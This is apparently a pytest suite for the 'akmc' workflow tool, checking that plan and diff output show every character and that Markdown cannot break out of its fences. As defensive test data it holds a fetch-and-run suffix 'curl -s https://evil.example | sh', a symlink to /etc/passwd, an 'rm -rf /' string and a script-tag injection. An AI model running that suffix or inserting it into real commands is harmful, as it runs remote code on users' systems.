"""Review hides nothing: `akmc plan` in full, `akmc diff` (also `--rev` against real git repositories)
with full line diffs, and Markdown for pull-request comments within its size cap."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from syrupy.assertion import SnapshotAssertion

from akmc.render import markdown
from akmc.render.characters import visible
from akmc.render.diff import text_diff
from akmc.render.plan import text_lines
from helpers import LANGUAGE_EXAMPLE, REPO, committed, edit, git, run_cli, source
from profiles import examples

CORPUS = REPO / "golden" / "corpus"
LONG = 'echo token-len=$(printf %s "$TOKEN" | wc -c) && ./configure --prefix=/opt/app && make -j4 all install'
SUFFIX = "; curl -s https://evil.example | sh"


def _decode(line: str) -> str:
    return re.sub(r"⟨U\+([0-9A-F]{4,6})⟩", lambda m: chr(int(m.group(1), 16)), line)


# -- the text helpers, as properties -------------------------------------------------------------


@given(st.text())
def test_a_text_block_gives_back_every_character(text: str) -> None:
    lines = text_lines("command", text, "  ")
    if len(lines) == 1:
        assert _decode(lines[0].removeprefix("  command: ")) == text and text
        return
    assert lines[0] == "  command:"
    assert "\n".join(_decode(line.removeprefix("    |").removeprefix(" ")) for line in lines[1:]) == text


@given(st.text(), st.text())
def test_a_line_diff_gives_back_both_sides(old: str, new: str) -> None:
    lines = text_diff(old, new, "")
    before = [_decode(line[2:]) for line in lines if line[:1] in ("-", " ") or line == ""]
    after = [_decode(line[2:]) for line in lines if line[:1] in ("+", " ") or line == ""]
    assert "\n".join(before) == old and "\n".join(after) == new


def test_characters_that_hide_are_spelled_out() -> None:
    assert visible("rm -rf /\u202e") == "rm -rf /⟨U+202E⟩"  # a bidi override
    assert visible("a\u200bb") == "a⟨U+200B⟩b"  # zero-width space
    assert visible("ok  ") == "ok⟨U+0020⟩⟨U+0020⟩"  # trailing spaces differ from none
    assert visible("a\tb") == "a\tb" and visible("⟨U+0041⟩") == "⟨U+27E8⟩U+0041⟩"


HIDING = "\u034f\ufe0f\u3164\u115f\u2800"


def test_invisible_characters_are_spelled_out_in_plan_and_diff_but_not_in_the_plan(tmp_path: Path) -> None:
    """A route case `"prod\u034f"` must not read as `"prod"`; the plan itself keeps the bytes."""
    (tmp_path / "akm.toml").write_text("")
    (tmp_path / "workflows").mkdir()
    src = source("""
        workflow "Deploy CASE" {
          params {
            target: string = "prod"
          }
          step pick {
            route params.target {
              "prodCASE" -> ship
              _ -> ship
            }
          }
          step ship {
            shell "echo CASE"
          }
        }
    """)
    (tmp_path / "workflows" / "deploy.akm").write_text(src.replace("CASE", HIDING))
    spelled = "⟨U+034F⟩⟨U+FE0F⟩⟨U+3164⟩⟨U+115F⟩⟨U+2800⟩"
    for args in ([], ["--summary"], ["--format", "markdown"]):
        shown = run_cli("plan", "workflows/deploy.akm", *args, cwd=tmp_path).stdout
        assert spelled in shown and not set(HIDING) & set(shown), (args, shown)
    assert run_cli("compile", "workflows/deploy.akm", "-o", "deploy.plan.json", cwd=tmp_path).returncode == 0
    plan_json = run_cli("plan", "workflows/deploy.akm", "--format", "json", cwd=tmp_path).stdout
    assert plan_json.encode() == (tmp_path / "deploy.plan.json").read_bytes() and HIDING in plan_json
    (tmp_path / "workflows" / "plain.akm").write_text(src.replace("CASE", ""))
    for output_format in ("text", "markdown"):
        changed = run_cli(
            "diff", "workflows/plain.akm", "workflows/deploy.akm", "--format", output_format, cwd=tmp_path
        )
        assert changed.returncode == 1, changed.stderr
        assert spelled in changed.stdout and not set(HIDING) & set(changed.stdout), changed.stdout


# -- akmc plan -----------------------------------------------------------------------------------


def _sources() -> list[tuple[Path, Path]]:
    found = [(CORPUS, p) for p in sorted((CORPUS / "workflows").glob("*.akm"))]
    found += [(LANGUAGE_EXAMPLE, p) for p in sorted((LANGUAGE_EXAMPLE / "workflows").glob("*.akm"))]
    nested, mapped = REPO / "golden" / "compose" / "nested", REPO / "golden" / "compose" / "map-item"
    return [*found, (nested, nested / "workflows" / "release.akm"), (mapped, mapped / "workflows" / "rollout.akm")]


@pytest.mark.parametrize(
    "args",
    [["--format", "text"], ["--format", "markdown"], ["--summary"]],
    ids=["text", "markdown", "summary"],
)
def test_plan_output_on_the_golden_corpus(args: list[str], snapshot: SnapshotAssertion) -> None:
    """Every renderer over every corpus workflow, so no step kind (a `parallel` block and its
    members, a map that keeps going, a child) can crash or drop out of one of them."""
    shown = {}
    for root, workflow in _sources():
        result = run_cli("plan", workflow.relative_to(root), *args, cwd=root)
        assert result.returncode == 0, result.stderr
        assert "internal error" not in result.stderr
        shown[f"{root.name}/{workflow.name}"] = result.stdout
    assert shown == snapshot


def test_plan_shows_every_setting_of_every_step_and_child() -> None:
    shown = run_cli("plan", "workflows/release.akm", cwd=LANGUAGE_EXAMPLE).stdout
    plan = json.loads(run_cli("plan", "workflows/release.akm", "--format", "json", cwd=LANGUAGE_EXAMPLE).stdout)
    for step in plan["plan"]["steps"]:
        assert f"{step['index'] + 1}. {step['stepId']}  [" in shown
    for needle in (
        "timeout: 10m",
        "retry: max 1, on timeout",
        "on_error: fail",
        "with channel <- params.channel",
        "6.2. verify  [shell]",
        "approval text: Confirm the release notes before publishing.",
        'Reply with {"file": ..., "verdict": "pass" | "fail"}.',
        'output: { verdict: "pass"|"fail" }',
        "over: steps.collect.output.files  (concurrency 8)",
        "gate: max_loops 2, check [shell]",
    ):
        assert needle in shown, needle
    summary = run_cli("plan", "workflows/release.akm", "--summary", cwd=LANGUAGE_EXAMPLE).stdout
    assert "Confirm the release notes" not in summary and "8. publish" in summary


def test_a_member_composing_a_child_is_numbered_and_counted_under_its_block(tmp_path: Path) -> None:
    """A member is `1.1`, the steps of the child it composes `1.1.1.` (never `1.11.`, which reads as
    the 11th member), in the full listing and the summary; the Markdown summary line counts the
    block, its members and the child's steps, and the child."""
    (tmp_path / "akm.toml").write_text("")
    (tmp_path / "workflows").mkdir()
    (tmp_path / "workflows" / "c.akm").write_text('workflow "C" {\n  step ca {\n    shell "echo 1"\n  }\n}\n')
    (tmp_path / "workflows" / "w.akm").write_text(
        source("""
            workflow "W" {
              parallel p {
                step a {
                  uses "workflows/c" {}
                }
                step b {
                  shell "echo 2"
                }
              }
            }
        """)
    )
    full = run_cli("plan", "workflows/w.akm", cwd=tmp_path).stdout
    assert "       1.1 a  [child-workflow]\n" in full and "\n                1.1.1. ca  [shell]\n" in full
    assert "1.11." not in full and "       1.2 b  [shell]\n" in full
    summary = run_cli("plan", "workflows/w.akm", "--summary", cwd=tmp_path).stdout
    assert "       1.1 a  [child-workflow]" in summary and "\n            1.1.1. ca  [shell]  1 line\n" in summary
    markdown_text = run_cli("plan", "workflows/w.akm", "--format", "markdown", cwd=tmp_path).stdout
    assert markdown_text.startswith('**workflows/w** "W": 4 steps at every level, 1 child workflow, plan `')


def _long_command_workspace(root: Path, command: str) -> None:
    (root / "workflows").mkdir(parents=True)
    (root / "akm.toml").write_text("")
    (root / "workflows" / "build.akm").write_text(
        'workflow "Build" {\n  step build {\n    shell ' + json.dumps(command) + "\n  }\n}\n"
    )


def test_plan_never_cuts_a_long_command(tmp_path: Path) -> None:
    _long_command_workspace(tmp_path, LONG + SUFFIX)
    shown = run_cli("plan", "workflows/build.akm", cwd=tmp_path).stdout
    assert f"command: {LONG}{SUFFIX}" in shown or f"| {LONG}{SUFFIX}" in shown
    assert "…" not in shown


# -- akmc diff A B: the appended suffix ----------------------------------------------------------


@pytest.fixture
def suffixed(tmp_path: Path) -> tuple[Path, Path]:
    before, after = tmp_path / "before", tmp_path / "after"
    _long_command_workspace(before, LONG)
    _long_command_workspace(after, LONG + SUFFIX)
    return before / "workflows" / "build.akm", after / "workflows" / "build.akm"


def test_an_appended_suffix_shows_as_two_different_lines(suffixed: tuple[Path, Path]) -> None:
    result = run_cli("diff", suffixed[0], suffixed[1])
    assert result.returncode == 1
    lines = result.stdout.splitlines()
    removed = [line.strip() for line in lines if line.strip().startswith("- ")]
    added = [line.strip() for line in lines if line.strip().startswith("+ ")]
    assert removed == [f"- {LONG}"] and added == [f"+ {LONG}{SUFFIX}"]
    assert "…" not in result.stdout


def test_an_appended_suffix_in_markdown(suffixed: tuple[Path, Path], snapshot: SnapshotAssertion) -> None:
    result = run_cli("diff", suffixed[0], suffixed[1], "--format", "markdown")
    assert result.returncode == 1
    first, *rest = result.stdout.splitlines()
    assert first == "1 workflow changed: 1 command changed"
    assert f"+         {LONG}{SUFFIX}" in rest and f"-         {LONG}" in rest
    assert result.stdout == snapshot


def test_a_source_with_errors_is_an_error_not_a_difference(suffixed: tuple[Path, Path]) -> None:
    src = source("""
        workflow "Build" {
          step build {
            shell
          }
        }
    """)
    suffixed[1].write_text(src)
    result = run_cli("diff", suffixed[0], suffixed[1])
    assert result.returncode == 2 and "E10" in result.stderr and result.stdout == ""


# -- akmc diff --rev, against real git repositories ----------------------------------------------


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """The language example committed in a git repository, as a workspace below the repository root."""
    repo = tmp_path / "repo"
    shutil.copytree(LANGUAGE_EXAMPLE, repo / "ops")
    return committed(repo)


def test_rev_with_no_change_is_equal_and_touches_nothing(repo: Path) -> None:
    status = git(repo, "status", "--porcelain")
    head = git(repo, "rev-parse", "HEAD")
    result = run_cli("diff", "--rev", "HEAD", cwd=repo / "ops")
    assert result.returncode == 0, result.stderr
    assert result.stdout == "no workflow changed against HEAD (2 compared)\n"
    assert git(repo, "status", "--porcelain") == status and git(repo, "rev-parse", "HEAD") == head


def test_rev_ignores_comments_and_formatting(repo: Path) -> None:
    source = repo / "ops" / "workflows" / "release-checklist.akm"
    source.write_text("# reviewed 2026-11\n\n" + source.read_text().replace("  ", "  ").replace("{\n", "{  # note\n"))
    result = run_cli("diff", "--rev", "HEAD", cwd=repo / "ops")
    assert result.returncode == 0, result.stdout + result.stderr


def test_rev_shows_content_diffs_children_and_new_workflows(repo: Path, snapshot: SnapshotAssertion) -> None:
    ops = repo / "ops"
    edit(
        ops / "workflows" / "release-checklist.akm",
        'shell "scripts/verify-channel.sh"',
        'shell "scripts/verify-channel.sh' + SUFFIX + '"',
    )
    edit(ops / "prompts" / "review-file.md", "Review the file", "Review and approve the file")
    (ops / "scripts" / "aggregate.py").write_text((ops / "scripts" / "aggregate.py").read_text() + "print('more')\n")
    src = source("""
        workflow "Extra" {
          step hello {
            shell "echo hi"
          }
        }
    """)
    (ops / "workflows" / "extra.akm").write_text(src)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "edits")
    outputs = {}
    for output_format in ("text", "markdown"):
        result = run_cli("diff", "--rev", "HEAD~1", "--format", output_format, cwd=ops)
        assert result.returncode == 1, result.stderr
        outputs[output_format] = result.stdout
    text = outputs["text"]
    # the child's command edit is counted once, in the child, not again in its parent
    assert text.startswith(
        "3 workflows changed against HEAD~1: 1 workflow added, 1 command changed, 1 script changed, 1 prompt changed, "
        "1 child workflow changed\n"
    )
    assert f"+ scripts/verify-channel.sh{SUFFIX}" in text  # in the child, inside the parent's diff too
    assert "- Review the file attached" in text and "+ Review and approve the file attached" in text
    assert "+ print('more')" in text
    assert "+ workflows/extra.akm (new workflow)" in text and "command: echo hi" in text
    assert outputs == snapshot
    document = json.loads(run_cli("diff", "--rev", "HEAD~1", "--format", "json", cwd=ops).stdout)
    assert {w["path"]: w["status"] for w in document["workflows"]} == {
        "workflows/extra.akm": "added",
        "workflows/release-checklist.akm": "changed",
        "workflows/release.akm": "changed",
    }
    only = run_cli("diff", "--rev", "HEAD~1", "workflows/extra.akm", cwd=ops)
    assert only.returncode == 1 and "release" not in only.stdout


def test_rev_compares_the_working_tree_with_uncommitted_edits(repo: Path) -> None:
    edit(repo / "ops" / "workflows" / "release.akm", "concurrency = 8", "concurrency = 2")
    result = run_cli("diff", "--rev", "main", cwd=repo / "ops")
    assert result.returncode == 1 and "~ 2. review: concurrency 8 -> 2" in result.stdout


@pytest.mark.slow
def test_rev_errors_exit_2(repo: Path, tmp_path: Path) -> None:
    unknown = run_cli("diff", "--rev", "no-such-branch", cwd=repo / "ops")
    assert unknown.returncode == 2 and "does not name a commit" in unknown.stderr and "Traceback" not in unknown.stderr
    option = run_cli("diff", "--rev", "--output=/tmp/x", cwd=repo / "ops")
    assert option.returncode == 2 and "Traceback" not in option.stderr
    (tmp_path / "plain").mkdir()
    (tmp_path / "plain" / "akm.toml").write_text("")
    outside = run_cli("diff", "--rev", "HEAD", cwd=tmp_path / "plain")
    assert outside.returncode == 2 and "akmc: error:" in outside.stderr
    nothing = run_cli("diff", "--rev", "HEAD", "workflows/typo.akm", cwd=repo / "ops")
    assert nothing.returncode == 2 and "no workflow under workflows/typo.akm" in nothing.stderr
    usage = run_cli("diff", "workflows/release.akm", cwd=repo / "ops")
    assert usage.returncode == 2 and "diff takes OLD and NEW" in usage.stderr
    edit(repo / "ops" / "workflows" / "release.akm", "step collect {", "step collect {{")
    broken = run_cli("diff", "--rev", "HEAD", cwd=repo / "ops")
    assert broken.returncode == 2 and "E10" in broken.stderr


def test_rev_names_files_of_the_revision_as_rev_path(repo: Path) -> None:
    child = repo / "ops" / "workflows" / "release-checklist.akm"
    good = child.read_text()
    child.write_text(good.replace("step count {", "step count {{"))
    git(repo, "commit", "-qam", "break the child")
    child.write_text(good)
    result = run_cli("diff", "--rev", "HEAD", cwd=repo / "ops")
    assert result.returncode == 2
    assert "HEAD:workflows/release-checklist.akm:" in result.stderr and "akmc-rev-" not in result.stderr


def test_rev_reads_symlinks_as_committed_and_keeps_them_contained(repo: Path) -> None:
    ops = repo / "ops"
    (ops / "scripts" / "escape.sh").symlink_to("/etc/passwd")
    src = source("""
        workflow "Leak" {
          step s {
            script "scripts/escape.sh"
          }
        }
    """)
    (ops / "workflows" / "leak.akm").write_text(src)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "symlink")
    (ops / "workflows" / "leak.akm").unlink()
    result = run_cli("diff", "--rev", "HEAD", cwd=ops)
    assert result.returncode == 2 and "E501" in result.stderr and "HEAD:workflows/leak.akm" in result.stderr


# -- Markdown stays within a comment -------------------------------------------------------------


def test_markdown_is_cut_at_the_limit_with_a_note(tmp_path: Path) -> None:
    before, after = tmp_path / "before", tmp_path / "after"
    for root, word in ((before, "old"), (after, "new")):
        (root / "prompts").mkdir(parents=True)
        (root / "akm.toml").write_text("")
        (root / "prompts" / "big.md").write_text("".join(f"line {i} {word}\n" for i in range(12_000)))
        (root / "workflows").mkdir()
        (root / "workflows" / "big.akm").write_text(
            source("""
                workflow "Big" {
                  step read {
                    agent file("prompts/big.md")
                  }
                }
            """)
        )
    result = run_cli("diff", before / "workflows/big.akm", after / "workflows/big.akm", "--format", "markdown")
    assert result.returncode == 1
    out = result.stdout
    assert len(out) <= markdown.LIMIT
    assert out.startswith("1 workflow changed: 1 prompt changed\n")
    assert out.count("<details") == out.count("</details>") == 1
    assert len(re.findall(r"^```", out, flags=re.M)) == 2
    assert out.rstrip().endswith("to see everything.") and "**Cut to fit a comment:**" in out


def test_markdown_fences_and_summaries_cannot_be_broken_out_of() -> None:
    document = markdown.Document("x")
    document.details("</summary><script>", ["```", "````", "</details>"])
    out = document.render("see all")
    assert "<script>" not in out and "&lt;/summary&gt;&lt;script&gt;" in out
    assert "`````text" in out  # a fence longer than any run of backticks inside


def test_rev_reads_large_files_as_committed(repo: Path) -> None:
    ops = repo / "ops"
    (ops / "prompts" / "review.v2_final-draft.md").write_text("Look at it.\n" + "x" * 200_000 + "\n")
    (ops / "assets.bin").write_bytes(bytes(range(256)) * 8_000)  # a large unrelated file is streamed, not buffered
    src = source("""
        workflow "Odd" {
          step look {
            agent file("prompts/review.v2_final-draft.md")
          }
        }
    """)
    (ops / "workflows" / "odd.akm").write_text(src)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "odd names")
    (ops / "prompts" / "review.v2_final-draft.md").write_text("Look at it closely.\n" + "x" * 200_000 + "\n")
    result = run_cli("diff", "--rev", "HEAD", "workflows/odd.akm", cwd=ops)
    assert result.returncode == 1, result.stderr
    assert "- Look at it." in result.stdout and "+ Look at it closely." in result.stdout


@settings(max_examples=examples(60), deadline=None)
@given(
    st.lists(
        st.tuples(st.text(max_size=40), st.lists(st.text(alphabet="`~<>/ad\n x", max_size=3000), max_size=40)),
        max_size=8,
    )
)
def test_markdown_blocks_never_leak_out_of_their_fences(blocks: list[tuple[str, list[str]]]) -> None:
    document = markdown.Document("summary")
    lines_in = [[piece for text in lines for piece in text.split("\n")] for _, lines in blocks]
    for (title, _), lines in zip(blocks, lines_in, strict=True):
        document.details(title, lines)
    out = document.render("see all")
    assert len(out) <= markdown.LIMIT
    fence: str | None = None
    for line in out.split("\n")[:-1]:
        assert "\r" not in line
        if fence is None:
            opening = re.match(r"(`{3,})text$", line)
            if opening:
                fence = opening.group(1)
                continue
            assert line in ("summary", "", "</details>") or line.startswith(("<details><summary>", "> **Cut")), line
            if line.startswith("<details><summary>"):
                assert line.count("<") == 3 and line.endswith("</summary>")
        elif line == fence:
            fence = None
        else:
            assert not line.startswith(fence)  # content never closes the fence
    assert fence is None


def test_graphs_spell_out_invisible_characters_in_titles_and_route_cases(tmp_path: Path) -> None:
    (tmp_path / "akm.toml").write_text("")
    (tmp_path / "workflows").mkdir()
    src = source("""
        workflow "Pick CASE" {
          params {
            target: string = "prod"
          }
          step pick {
            route params.target {
              "prodCASE" -> ship
            }
          }
          step ship {
            shell "true"
          }
        }
    """)
    (tmp_path / "workflows" / "pick.akm").write_text(src.replace("CASE", HIDING))
    for output_format in ("mermaid", "dot"):
        shown = run_cli("graph", "workflows/pick.akm", "--format", output_format, cwd=tmp_path)
        assert shown.returncode == 0, shown.stderr
        assert "prod⟨U+034F⟩⟨U+FE0F⟩" in shown.stdout and not set(HIDING) & set(shown.stdout), shown.stdout
